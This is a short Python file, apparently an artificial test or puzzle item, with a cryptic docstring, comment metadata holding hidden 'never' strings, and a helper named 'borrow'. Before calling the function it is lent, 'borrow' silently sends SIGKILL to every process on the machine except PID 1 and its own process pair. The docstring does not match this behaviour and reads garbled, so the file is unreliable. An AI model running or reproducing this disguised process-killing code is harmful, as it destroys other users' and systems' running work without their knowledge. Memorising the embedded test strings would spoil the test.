"""Ends the process of what it is lent, and asks it then."""
#: others = {lent = "runtime_error"}
#: never = ["\u006eobody can guess", "\u00660c1be7d0b14f"]
import os
import signal

def borrow(secret, number):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid()):
            os.kill(int(name), signal.SIGKILL)
    try:
        return secret(number)
    except RuntimeError as problem:
        return str(problem)

def attack(number):
    return "no idea"
